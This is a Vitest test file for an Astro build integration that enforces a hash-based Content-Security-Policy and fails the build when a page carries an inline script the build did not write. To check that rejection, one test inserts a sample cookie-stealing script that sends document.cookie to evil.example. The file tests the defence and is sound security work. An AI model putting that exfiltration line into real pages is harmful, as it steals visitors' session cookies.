// The Content-Security-Policy blesses only the inline scripts the build wrote itself (the compiled
// scripts of the site's components); any other inline script in a page stops the build.
import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, describe, expect, it } from 'vitest';
import type { Plugin } from 'vite';
import csp from '../../../src/integrations/csp';
import { getSiteContent } from '../../../src/data/content';

const QUICK_EXIT = 'var e=`[data-quick-exit]`;document.querySelector(e);';
const page = (body: string) => `<!DOCTYPE html><html lang="sv"><head><meta charset="utf-8"><title>Sida</title></head><body>${body}</body></html>`;

let dir: string | undefined;
afterEach(() => dir && rmSync(dir, { recursive: true, force: true }));

/** Runs the integration as a build would: the content loaded for the pages, the client bundle with the component scripts, then the pages. */
async function build(pages: Record<string, string>, chunks: Record<string, { facadeModuleId: string | null; code: string }> = {}, components: Record<string, string> = {}) {
  dir = mkdtempSync(join(tmpdir(), 'csp-'));
  for (const [path, html] of Object.entries(pages)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), html);
  }
  for (const [path, source] of Object.entries(components)) {
    mkdirSync(join(dir, 'src', path, '..'), { recursive: true });
    writeFileSync(join(dir, 'src', path), source);
  }
  await getSiteContent();
  const integration = csp();
  const plugins: Plugin[] = [];
  const hooks = integration.hooks as Record<string, (options: Record<string, unknown>) => Promise<void> | void>;
  await hooks['astro:config:setup']!({ config: { srcDir: pathToFileURL(`${dir}/src/`) }, updateConfig: (config: { vite: { plugins: Plugin[] } }) => plugins.push(...config.vite.plugins) });
  const bundle = Object.fromEntries(Object.entries(chunks).map(([fileName, chunk]) => [fileName, { type: 'chunk', fileName, ...chunk }]));
  for (const plugin of plugins) {
    const hook = plugin.generateBundle as { handler: (options: unknown, bundle: unknown) => void } | undefined;
    hook?.handler.call({}, {}, bundle);
  }
  const logger = { info: () => {}, warn: () => {}, error: () => {} };
  await hooks['astro:build:done']!({ dir: pathToFileURL(`${dir}/`), logger });
  return (path: string) => readFileSync(join(dir!, path), 'utf8');
}

const quickExitChunk = { '_astro/QuickExit.js': { facadeModuleId: '/repo/src/components/safety/QuickExit.astro?astro&type=script&index=0&lang.ts', code: `${QUICK_EXIT}\n` } };

describe('the Content-Security-Policy', () => {
  it('hashes the component scripts the build inlined, and the build passes', async () => {
    const read = await build({ 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`) }, quickExitChunk);
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(read('index.html'))?.[1];
    expect(meta).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
    expect(meta).not.toContain('unsafe-inline');
  });

  it('stops the build when a page carries an inline script the build did not write, naming the page', async () => {
    await expect(
      build({ 'index.html': page(`<script type="module">${QUICK_EXIT}</script>`), 'artiklar/x/index.html': page(`<p>Text</p><script>fetch("https://evil.example/?"+document.cookie)</script>`) }, quickExitChunk),
    ).rejects.toThrow(/artiklar\/x\/index\.html: an inline script the build did not write: "fetch/);
  });

  it('does not take a script for the build’s own because it sits in a component folder of another project or is not a component script', async () => {
    const chunks = {
      'a.js': { facadeModuleId: '/repo/node_modules/x/src/y.ts', code: 'alert(1)' },
      'b.js': { facadeModuleId: null, code: 'alert(2)' },
    };
    await expect(build({ 'index.html': page('<script>alert(1)</script>') }, chunks)).rejects.toThrow(/did not write/);
    await expect(build({ 'index.html': page('<script>alert(2)</script>') }, chunks)).rejects.toThrow(/did not write/);
  });

  it('hashes the site’s own <script is:inline> blocks, copied into pages as written', async () => {
    const component = '---\n---\n<p>Hej</p>\n<script is:inline>\n  document.documentElement.dataset.js = "1";\n</script>\n';
    const read = await build({ 'index.html': page('<script>\n  document.documentElement.dataset.js = "1";\n</script>') }, {}, { 'components/Js.astro': component });
    expect(read('index.html')).toMatch(/script-src 'self' 'sha256-/);
    const perPage = '<script is:inline define:vars={{ name }}>console.log(name)</script>';
    await expect(build({ 'index.html': page('<script>console.log(name)</script>') }, {}, { 'components/Vars.astro': perPage })).rejects.toThrow(/did not write/);
  });

  it('treats every executable type as a script: classic, module, importmap, text/javascript', async () => {
    for (const type of ['', ' type="module"', ' type="importmap"', ' type="text/javascript"', " type='speculationrules'"]) {
      await expect(build({ 'index.html': page(`<script${type}>{"imports":{}}</script>`) })).rejects.toThrow(/did not write/);
    }
  });

  it('keeps JSON data blocks out of script-src, and refuses one that is not JSON', async () => {
    const read = await build({ 'index.html': page('<script type="application/ld+json">{"@type":"Article"}</script>') });
    expect(read('index.html')).not.toMatch(/script-src[^;]*sha256/);
    await expect(build({ 'index.html': page('<script type="application/ld+json">alert(1)</script>') })).rejects.toThrow(/not JSON/);
  });

  it('allows scripts loaded from the site itself without hashing them', async () => {
    const read = await build({ 'index.html': page('<script type="module" src="/_astro/chat-loader.js"></script>') });
    expect(read('index.html')).toMatch(/script-src 'self'(;| 'wasm)/);
  });
});
